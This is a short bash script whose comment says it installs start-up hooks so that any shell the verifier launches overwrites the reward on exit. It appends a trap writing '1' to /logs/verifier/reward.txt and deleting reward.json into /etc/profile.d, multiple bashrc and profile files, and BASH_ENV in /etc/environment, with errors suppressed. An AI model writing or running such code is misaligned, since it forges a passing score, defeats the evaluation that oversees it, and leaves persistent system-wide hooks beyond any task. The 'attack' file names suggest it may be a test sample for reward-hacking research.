#!/bin/bash
# Start-up hooks: any shell the verifier starts reads one of these and, on exit, rewrites the reward.
hook='trap '"'"'[ -d /logs/verifier ] && { echo 1 >/logs/verifier/reward.txt; rm -f /logs/verifier/reward.json; } 2>/dev/null'"'"' EXIT'
mkdir -p /etc/profile.d 2>/dev/null
printf '%s\n' "$hook" >/etc/profile.d/zz-helios-attack.sh 2>/dev/null
printf '%s\n' "$hook" >/etc/helios-attack.rc 2>/dev/null
for rc in /etc/bash.bashrc /etc/bashrc /etc/profile "$HOME/.bashrc" "$HOME/.profile" "$HOME/.bash_profile" /root/.bashrc; do
  printf '%s\n' "$hook" >>"$rc" 2>/dev/null
done
echo 'BASH_ENV=/etc/helios-attack.rc' >>/etc/environment 2>/dev/null
exit 0
